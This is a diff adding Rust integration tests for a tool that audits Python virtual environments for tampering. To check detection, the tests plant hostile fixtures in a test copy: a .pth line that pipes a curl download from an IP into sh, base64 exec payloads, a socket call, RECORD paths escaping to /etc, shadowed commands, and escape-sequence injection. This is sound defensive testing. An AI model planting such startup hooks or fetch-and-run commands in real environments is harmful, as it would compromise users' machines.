@@ -1,0 +1,630 @@
+//! `audit env:` on a real virtual environment that is made at test time and tampered with.
+
+use crate::{Project, Ran};
+use std::{
+    fs,
+    path::{Path, PathBuf},
+    process::{Command, Stdio},
+    sync::OnceLock,
+};
+
+/// An environment with the packages of `scripts/environment.txt`; `None` where it cannot be made.
+fn original() -> Option<&'static Path> {
+    static MADE: OnceLock<Option<PathBuf>> = OnceLock::new();
+    MADE.get_or_init(make).as_deref()
+}
+
+fn make() -> Option<PathBuf> {
+    let pins = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/environment.txt");
+    let target = Path::new(env!("CARGO_BIN_EXE_wellhead")).parent()?.parent()?;
+    let folder = target.join("test-data/environment");
+    let wanted = fs::read(&pins).ok()?;
+    if fs::read(folder.join("pins.txt")).is_ok_and(|had| had == wanted) {
+        return Some(folder);
+    }
+    // Made beside its place and moved there, so that a test that runs at the same time sees all of it or nothing.
+    let making = target.join(format!("test-data/environment-{}", std::process::id()));
+    fs::create_dir_all(&making).ok()?;
+    let run = |program: &Path, args: &[&str]| {
+        let done = Command::new(program).args(args).stdin(Stdio::null()).output();
+        done.is_ok_and(|done| done.status.success())
+    };
+    let python = std::env::var_os("WELLHEAD_PYTHON").unwrap_or_else(|| "python3".into());
+    let made = run(Path::new(&python), &["-m", "venv", making.to_str()?])
+        && run(
+            &making.join("bin/python"),
+            &[
+                "-m",
+                "pip",
+                "install",
+                "--quiet",
+                "--disable-pip-version-check",
+                "--no-deps",
+                "--only-binary",
+                ":all:",
+                "--require-hashes",
+                "-r",
+                pins.to_str()?,
+            ],
+        );
+    // The copies are small without what every environment has.
+    let made = made
+        && run(
+            &making.join("bin/python"),
+            &["-m", "pip", "uninstall", "--quiet", "--yes", "setuptools", "pip"],
+        );
+    if made {
+        fs::write(making.join("pins.txt"), &wanted).ok()?;
+        let _ = fs::remove_dir_all(&folder);
+        let _ = fs::rename(&making, &folder);
+    }
+    let _ = fs::remove_dir_all(&making);
+    if !folder.join("pins.txt").is_file() {
+        eprintln!("skipped: no environment could be made, so its tests skip");
+        return None;
+    }
+    Some(folder)
+}
+
+/// A copy of it.
+struct Environment {
+    project: Project,
+    site: String,
+}
+
+impl Environment {
+    fn new() -> Option<Self> {
+        let original = original()?;
+        let project = Project::new(&[]);
+        let done = Command::new("cp")
+            .arg("-a")
+            .arg(original)
+            .arg(project.path().join("venv"))
+            .status();
+        assert!(done.unwrap().success());
+        fs::remove_file(project.path().join("venv/pins.txt")).unwrap();
+        let library = fs::read_dir(project.path().join("venv/lib"))
+            .unwrap()
+            .next()
+            .unwrap();
+        let site = format!(
+            "venv/lib/{}/site-packages",
+            library.unwrap().file_name().to_str().unwrap()
+        );
+        Some(Self { project, site })
+    }
+
+    fn at(&self, path: &str) -> PathBuf {
+        self.project.path().join(&self.site).join(path)
+    }
+
+    /// The folder of a distribution's own files.
+    fn info(&self, name: &str) -> PathBuf {
+        let names = fs::read_dir(self.at("")).unwrap().flatten();
+        let found = names.map(|e| e.file_name().into_string().unwrap());
+        let mut found = found.filter(|n| n.starts_with(&format!("{name}-")) && n.ends_with(".dist-info"));
+        self.at(&found.next().unwrap())
+    }
+
+    fn write(&self, path: &str, text: &str) {
+        let path = self.at(path);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, text).unwrap();
+    }
+
+    fn append(&self, path: &Path, text: &str) {
+        let had = fs::read_to_string(path).unwrap();
+        fs::write(path, had + text).unwrap();
+    }
+
+    /// What is found beyond the shebangs of a copy: `severity rule last part of the path`, sorted.
+    fn found(&self) -> Vec<String> {
+        self.found_by(&["audit", "env:venv"])
+    }
+
+    fn found_by(&self, args: &[&str]) -> Vec<String> {
+        told(&self.project.run(&[args, &["--format", "concise"]].concat()))
+    }
+}
+
+fn told(ran: &Ran) -> Vec<String> {
+    let mut rows: Vec<String> = ran
+        .out
+        .lines()
+        .filter_map(|line| {
+            let (place, rest) = line.split_once(": ")?;
+            let (severity, rest) = rest.split_once('[')?;
+            let (rule, _) = rest.split_once(']')?;
+            let name = place.rsplit('/').next()?.split(':').next()?;
+            let quiet = ["foreign-shebang", "partly", "not-analysed"].contains(&rule);
+            (!quiet).then(|| format!("{severity} {rule} {name}"))
+        })
+        .collect();
+    rows.sort();
+    rows.dedup();
+    rows
+}
+
+#[test]
+fn a_fresh_environment_raises_nothing() {
+    let Some(env) = Environment::new() else { return };
+    let ran = env.project.run(&["audit", "env:venv"]);
+    assert_eq!(ran.code, 0, "{}", ran.out);
+    assert_eq!(env.found(), [""; 0], "{}", ran.out);
+    assert!(
+        ran.out.contains("verified against its record, and not"),
+        "{}",
+        ran.out
+    );
+    assert_eq!(env.project.run(&["audit", "env:venv", "--strict"]).code, 3);
+    let json = env.project.run(&["audit", "env:venv", "--format", "json"]).out;
+    for package in ["attrs", "idna", "jupyterlab-widgets", "six"] {
+        assert!(json.contains(&format!("\"pkg:pypi/{package}@")), "{package}");
+    }
+}
+
+#[test]
+fn what_every_environment_has_raises_nothing() {
+    if original().is_none() {
+        return;
+    }
+    let project = Project::new(&[]);
+    let python = std::env::var_os("WELLHEAD_PYTHON").unwrap_or_else(|| "python3".into());
+    let made = Command::new(python)
+        .args(["-m", "venv", "venv"])
+        .current_dir(project.path())
+        .status();
+    assert!(made.unwrap().success());
+    let ran = project.run(&["audit", "env:venv", "--format", "concise"]);
+    assert_eq!(told(&ran), [""; 0], "{}", ran.out);
+    assert!(!ran.out.contains("foreign-shebang"), "{}", ran.out);
+}
+
+#[test]
+fn a_file_that_is_not_the_installed_one_is_found_by_digest_and_by_size() {
+    let Some(env) = Environment::new() else { return };
+    env.append(&env.at("six.py"), "# one more line\n");
+    let same_size = fs::read_to_string(env.at("idna/core.py"))
+        .unwrap()
+        .replacen("import", "impor1", 1);
+    fs::write(env.at("idna/core.py"), same_size).unwrap();
+    fs::remove_file(env.at("attr/_cmp.py")).unwrap();
+    assert_eq!(
+        env.found(),
+        [
+            "error modified-installed-file core.py",
+            "error modified-installed-file six.py",
+            "warning missing-installed-file RECORD"
+        ]
+    );
+    assert_eq!(env.project.run(&["audit", "env:venv"]).code, 1);
+}
+
+#[test]
+fn a_changed_file_that_hides_what_it_runs_is_critical() {
+    let Some(env) = Environment::new() else { return };
+    env.append(
+        &env.at("six.py"),
+        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
+    );
+    let ran = env.project.run(&["audit", "env:venv", "--format", "json"]);
+    assert!(ran.out.contains("\"critical\""), "{}", ran.out);
+    assert!(
+        ran.out.contains("runs code that it decodes from data"),
+        "{}",
+        ran.out
+    );
+}
+
+#[test]
+fn what_no_record_names_is_found_and_caches_are_not() {
+    let Some(env) = Environment::new() else { return };
+    env.write("helper.py", "x = 1\n");
+    env.write("gone.pyc", "\0\0\0\0");
+    env.write("six.cpython-399-x86_64-linux-gnu.so", "\x7fELF");
+    env.write("idna/core/__init__.py", "");
+    env.write("stray/a.py", "");
+    env.write("stray/b.py", "");
+    env.write("attr/__pycache__/_cmp.cpython-399.pyc", "");
+    env.write("notes.txt", "nothing that runs");
+    let found = env.found();
+    assert_eq!(
+        found,
+        [
+            "error unowned-installed-file core",
+            "error unowned-installed-file six.cpython-399-x86_64-linux-gnu.so",
+            "warning unowned-installed-file gone.pyc",
+            "warning unowned-installed-file helper.py",
+            "warning unowned-installed-file stray"
+        ]
+    );
+}
+
+#[test]
+fn rows_that_leave_the_environment_are_found_and_those_of_bin_are_not() {
+    let Some(env) = Environment::new() else { return };
+    let record = env.info("six").join("RECORD");
+    env.append(
+        &record,
+        "../../../share/x,,\n../../../../../etc/cron.d/x,,\n/etc/passwd,,\nSIX.py,,\n",
+    );
+    assert_eq!(
+        env.found(),
+        [
+            "error record-escapes RECORD",
+            "warning ambiguous-installed-file RECORD",
+            "warning missing-installed-file RECORD"
+        ]
+    );
+}
+
+#[test]
+fn lines_that_run_at_every_start_are_judged_by_what_they_do() {
+    let Some(env) = Environment::new() else { return };
+    env.write(
+        "a.pth",
+        "import os; os.system('curl -s https://203.0.113.7/x | sh')\n",
+    );
+    env.write("b.pth", "import base64; exec(base64.b64decode('cGFzcw=='))\n");
+    env.write("c.pth", "import sys; sys.flags\n");
+    env.write("d.pth", "# import os; os.system('x')\n/home/someone/project\n");
+    env.write("e.pth", "/tmp/modules\n");
+    env.write("f.start", "boot:main\n");
+    env.write("boot.py", "import os\ndef main():\n    os.system('id')\n");
+    assert_eq!(
+        env.found(),
+        [
+            "error startup-hook a.pth",
+            "error startup-hook b.pth",
+            "error startup-hook f.start",
+            "warning startup-hook c.pth",
+            "warning startup-hook e.pth",
+            "warning unowned-installed-file boot.py"
+        ]
+    );
+}
+
+#[test]
+fn lines_of_the_tools_of_packaging_are_known_by_their_content() {
+    let Some(env) = Environment::new() else { return };
+    env.write("_virtualenv.pth", "import _virtualenv");
+    env.write(
+        "_virtualenv.py",
+        "import sys\nclass _Finder:\n    pass\nsys.meta_path.insert(0, _Finder())\n",
+    );
+    env.write("zope-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n");
+    env.write("easy-install.pth", "./egg-folder\n/home/someone/project\n");
+    assert_eq!(env.found(), [""; 0]);
+    // The same line, when what it imports does more.
+    env.write(
+        "_virtualenv.py",
+        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
+    );
+    assert!(
+        env.found().iter().any(|f| f.starts_with("error startup-hook")),
+        "{:?}",
+        env.found()
+    );
+}
+
+#[test]
+fn customize_modules_and_variables_of_the_shell_are_found() {
+    let Some(env) = Environment::new() else { return };
+    env.write("sitecustomize.py", "import sys\n");
+    env.write(
+        "usercustomize.py",
+        "import socket\nsocket.create_connection(('203.0.113.7', 80))\n",
+    );
+    assert_eq!(
+        env.found(),
+        [
+            "error startup-hook usercustomize.py",
+            "warning startup-hook sitecustomize.py"
+        ]
+    );
+    let mut command = env.project.command(&["audit", "env:", "--format", "concise"]);
+    command
+        .env("VIRTUAL_ENV", env.project.path().join("venv"))
+        .env("PYTHONPATH", "src")
+        .env("PYTHONSTARTUP", "/home/someone/.pythonrc");
+    let done = command.output().unwrap();
+    let out = String::from_utf8(done.stdout).unwrap();
+    assert_eq!(out.matches("startup-variable").count(), 2, "{out}");
+    assert!(out.contains("from the current folder"), "{out}");
+    let err = String::from_utf8(done.stderr).unwrap();
+    assert!(err.contains("found by `VIRTUAL_ENV`"), "{err}");
+    // A named environment is judged without the shell.
+    let mut command = env.project.command(&["audit", "env:venv", "--format", "concise"]);
+    let out = command.env("PYTHONPATH", "src").output().unwrap().stdout;
+    assert!(!String::from_utf8(out).unwrap().contains("startup-variable"));
+}
+
+#[test]
+fn the_interpreter_on_path_is_the_environment_without_a_name() {
+    let Some(env) = Environment::new() else { return };
+    env.write("a.pth", "import os; os.system('id')\n");
+    let mut command = env.project.command(&["audit", "env:", "--format", "concise"]);
+    let done = command
+        .env("PATH", env.project.path().join("venv/bin"))
+        .output()
+        .unwrap();
+    let out = String::from_utf8(done.stdout).unwrap();
+    assert!(out.contains("startup-hook"), "{out}");
+}
+
+#[test]
+fn commands_that_shadow_tools_are_found() {
+    let Some(env) = Environment::new() else { return };
+    let bin = env.project.path().join("venv/bin");
+    fs::write(bin.join("git"), "#!/bin/sh\nexit 0\n").unwrap();
+    fs::write(bin.join("my-tool"), "#!/bin/sh\nexit 0\n").unwrap();
+    fs::remove_file(bin.join("python3")).unwrap();
+    fs::write(bin.join("python3"), "#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n").unwrap();
+    assert_eq!(
+        env.found(),
+        ["error shadowed-command git", "error shadowed-command python3"]
+    );
+}
+
+#[test]
+fn commands_of_another_interpreter_are_told_once() {
+    let Some(env) = Environment::new() else { return };
+    for name in ["one", "two"] {
+        let script = "#!/opt/other/bin/python3\nimport sys\n";
+        fs::write(env.project.path().join("venv/bin").join(name), script).unwrap();
+    }
+    let ran = env.project.run(&["audit", "env:venv", "--format", "concise"]);
+    assert_eq!(ran.out.matches("foreign-shebang").count(), 1, "{}", ran.out);
+    assert!(ran.out.contains("`/opt/other/bin/python3`"), "{}", ran.out);
+}
+
+#[test]
+fn two_owners_of_one_file_are_told_only_where_they_disagree() {
+    let Some(env) = Environment::new() else { return };
+    let six = fs::read_to_string(env.info("six").join("RECORD")).unwrap();
+    let row = six.lines().find(|l| l.starts_with("six.py,")).unwrap();
+    env.append(&env.info("idna").join("RECORD"), &format!("{row}\n"));
+    assert_eq!(env.found(), [""; 0]);
+    let size = row.rsplit(',').next().unwrap();
+    let other = format!("six.py,sha256={},{size}\n", "A".repeat(43));
+    env.append(&env.info("attrs").join("RECORD"), &other);
+    assert_eq!(env.found(), ["warning ambiguous-installed-file six.py"]);
+}
+
+#[test]
+fn addresses_of_installed_packages_are_judged() {
+    let Some(env) = Environment::new() else { return };
+    for (json, expected) in [
+        (
+            r#"{"url":"https://u:tk_secret@files.example/six.whl","archive_info":{}}"#,
+            "warning unpinned-direct-url RECORD",
+        ),
+        (
+            r#"{"url":"https://git.example/six.git","vcs_info":{"vcs":"git","requested_revision":"main","commit_id":"0123456789abcdef0123456789abcdef01234567"}}"#,
+            "warning unpinned-direct-url RECORD",
+        ),
+        (
+            r#"{"url":"file:///src/six","dir_info":{"editable":true}}"#,
+            "note unpinned-direct-url RECORD",
+        ),
+        (
+            r#"{"url":"https://files.example/six.whl","archive_info":{"hashes":{"sha256":"00"}}}"#,
+            "",
+        ),
+        (
+            r#"{"url":"https://git.example/six.git","vcs_info":{"vcs":"git","commit_id":"0123456789abcdef0123456789abcdef01234567"}}"#,
+            "",
+        ),
+    ] {
+        fs::write(env.info("six").join("direct_url.json"), json).unwrap();
+        let found: Vec<String> = Some(expected.to_owned())
+            .into_iter()
+            .filter(|e| !e.is_empty())
+            .collect();
+        assert_eq!(env.found(), found, "{json}");
+        assert!(
+            !env.project
+                .run(&["audit", "env:venv", "--format", "json"])
+                .out
+                .contains("tk_secret")
+        );
+    }
+}
+
+#[test]
+fn doubles_and_unmet_requirements_are_found() {
+    let Some(env) = Environment::new() else { return };
+    env.write(
+        "six-1.2.dist-info/METADATA",
+        "Metadata-Version: 2.1\nName: six\nVersion: 1.2\n",
+    );
+    env.write("six-1.2.dist-info/RECORD", "six-1.2.dist-info/METADATA,,\n");
+    env.append(&env.info("idna").join("RECORD"), "");
+    let metadata = env.info("attrs").join("METADATA");
+    let text = fs::read_to_string(&metadata).unwrap();
+    let more = "Requires-Dist: absent-package>=1\nRequires-Dist: idna>=99\nRequires-Dist: not-here; sys_platform == 'win32'\nRequires-Dist: nor-this; extra == 'x'\n";
+    fs::write(
+        &metadata,
+        text.replacen("Name: attrs\n", &format!("Name: attrs\n{more}"), 1),
+    )
+    .unwrap();
+    let ran = env.project.run(&["audit", "env:venv", "--format", "concise"]);
+    assert_eq!(
+        told(&ran),
+        [
+            "warning duplicate-distribution RECORD",
+            "warning modified-installed-file METADATA",
+            "warning unmet-requirement RECORD"
+        ]
+    );
+    assert!(
+        ran.out
+            .contains("`absent-package>=1` (not installed), `idna>=99` (installed: `3.10`)"),
+        "{}",
+        ran.out
+    );
+    assert!(
+        !ran.out.contains("nor-this") && !ran.out.contains("not-here"),
+        "{}",
+        ran.out
+    );
+}
+
+#[test]
+fn a_lock_of_the_same_run_is_compared_with_what_is_installed() {
+    let Some(env) = Environment::new() else { return };
+    let hash = "--hash=sha256:427318ce031701fea540783410126f03899a97ffc6f61596ad581ac2e40e3bc3";
+    let lock = |six: &str, more: &str| {
+        let rows = [
+            format!("attrs==25.3.0 {hash}"),
+            format!("idna==3.10 {hash}"),
+            format!("six=={six} {hash}"),
+            more.to_owned(),
+        ];
+        env.project
+            .write("requirements.txt", (rows.join("\n") + "\n").as_bytes());
+    };
+    let drift = |args: &[&str]| {
+        let mut found = env.found_by(args);
+        found.retain(|f| f.contains("environment-lock-drift"));
+        found
+    };
+    let args = ["audit", "env:venv", "--lock", "requirements.txt"];
+    lock("1.17.0", &format!("jupyterlab-widgets==3.0.15 {hash}"));
+    assert_eq!(drift(&args), [""; 0]);
+    lock("1.16.0", &format!("absent==1 {hash}"));
+    assert_eq!(
+        drift(&args),
+        [
+            "warning environment-lock-drift RECORD",
+            "warning environment-lock-drift requirements.txt"
+        ]
+    );
+    let ran = env.project.run(&[&args[..], &["--format", "json"]].concat());
+    for part in [
+        "`1.16.0` is locked and `1.17.0` installed",
+        "not installed: `absent`",
+        "`jupyterlab_widgets`",
+    ] {
+        assert!(ran.out.contains(part), "{part}: {}", ran.out);
+    }
+    fs::write(
+        env.info("idna").join("direct_url.json"),
+        r#"{"url":"https://files.example/idna.whl","archive_info":{"hashes":{"sha256":"00"}}}"#,
+    )
+    .unwrap();
+    let ran = env.project.run(&["audit", ".", "env:venv", "--format", "json"]);
+    assert!(
+        ran.out.contains("did not come from where the lock says"),
+        "{}",
+        ran.out
+    );
+    assert!(ran.err.contains("`wellhead audit env:"), "{}", ran.err);
+}
+
+/// A prefix of conda that holds the packages, with records of the digests that they have now.
+fn conda(env: &Environment) {
+    fs::remove_file(env.project.path().join("venv/pyvenv.cfg")).unwrap();
+    let site = env.site.strip_prefix("venv/").unwrap().to_owned();
+    let row = |path: &str, more: &str| {
+        let bytes = fs::read(env.project.path().join("venv").join(path)).unwrap();
+        let digest = wellhead_core::Digest::sha256(&bytes).hex;
+        format!(
+            r#"{{"_path":"{path}","path_type":"hardlink","sha256":"{digest}","size_in_bytes":{}{more}}}"#,
+            bytes.len()
+        )
+    };
+    let rows = [
+        row(&format!("{site}/six.py"), ""),
+        row(&format!("{site}/idna/core.py"), ""),
+    ];
+    let json = format!(
+        r#"{{"name":"six","version":"1.17.0","channel":"https://conda.example/main","paths_data":{{"paths":[{}]}}}}"#,
+        rows.join(",")
+    );
+    env.project
+        .write("venv/conda-meta/six-1.17.0-0.json", json.as_bytes());
+}
+
+#[test]
+fn digests_of_conda_are_compared_and_pip_over_conda_is_told() {
+    let Some(env) = Environment::new() else { return };
+    conda(&env);
+    assert_eq!(env.found(), ["warning pip-over-conda RECORD"]);
+    for one in ["attrs", "idna", "six", "jupyterlab_widgets"] {
+        if fs::read_dir(env.at(""))
+            .unwrap()
+            .flatten()
+            .any(|e| e.file_name().to_str().unwrap().starts_with(&format!("{one}-")))
+        {
+            fs::write(env.info(one).join("INSTALLER"), "conda").unwrap();
+        }
+    }
+    env.append(&env.at("idna/core.py"), "# more\n");
+    let found = env.found();
+    assert_eq!(found, ["error modified-installed-file core.py"], "{found:?}");
+}
+
+#[test]
+fn an_interpreter_that_all_share_is_told() {
+    let Some(env) = Environment::new() else { return };
+    let config = env.project.path().join("venv/pyvenv.cfg");
+    let text = fs::read_to_string(&config).unwrap();
+    fs::write(
+        &config,
+        text.replace(
+            "include-system-site-packages = false",
+            "include-system-site-packages = true",
+        ),
+    )
+    .unwrap();
+    assert_eq!(env.found(), ["warning shared-interpreter pyvenv.cfg"]);
+    fs::remove_file(&config).unwrap();
+    assert_eq!(env.found(), ["warning shared-interpreter site-packages"]);
+}
+
+#[test]
+fn hostile_environments_end_in_findings() {
+    let Some(env) = Environment::new() else { return };
+    use std::os::unix::fs::symlink;
+    let loops = env.at("loop");
+    symlink(&loops, &loops).unwrap();
+    symlink("/", env.at("root")).unwrap();
+    let fifo = Command::new("mkfifo").arg(env.at("idna/pipe.py")).status();
+    assert!(fifo.unwrap().success());
+    fs::remove_file(env.at("six.py")).unwrap();
+    symlink("/etc/hostname", env.at("six.py")).unwrap();
+    fs::remove_file(env.info("attrs").join("RECORD")).unwrap();
+    env.write("bare-1.0.dist-info/INSTALLER", "pip");
+    let long = format!(
+        "{},,\n\u{1b}[2J\u{202e}x.py,,\nbroken,sha256=!!,1\n",
+        "n".repeat(10_000_000)
+    );
+    env.append(&env.info("idna").join("RECORD"), &long);
+    env.write("x.pth", &format!("import {}\n", "a.".repeat(500_000)));
+    let ran = env.project.run(&["audit", "env:venv", "--format", "concise"]);
+    assert_eq!(ran.code, 1, "{}", ran.err);
+    assert!(!ran.out.contains('\u{1b}') && !ran.out.contains('\u{202e}'));
+    assert!(ran.out.len() < 100_000, "{}", ran.out.len());
+    let found = told(&ran);
+    for expected in [
+        "warning missing-installed-file RECORD",
+        "warning startup-hook x.pth",
+        "warning unowned-installed-file attr",
+        "warning unverifiable-installation RECORD",
+        "warning unverifiable-installation attrs-25.3.0.dist-info",
+        "warning unverifiable-installation bare-1.0.dist-info",
+    ] {
+        assert!(found.iter().any(|f| f == expected), "{expected}: {found:#?}");
+    }
+}
+
+#[test]
+fn what_is_no_environment_is_an_error_with_a_hint() {
+    let project = Project::new(&[("src/a.py", "")]);
+    for target in ["env:src", "env:nowhere", "env:"] {
+        let ran = project.run(&["audit", target]);
+        assert_eq!(ran.code, 2, "{target}: {}", ran.out);
+        assert!(ran.err.contains("hint"), "{target}: {}", ran.err);
+    }
+}
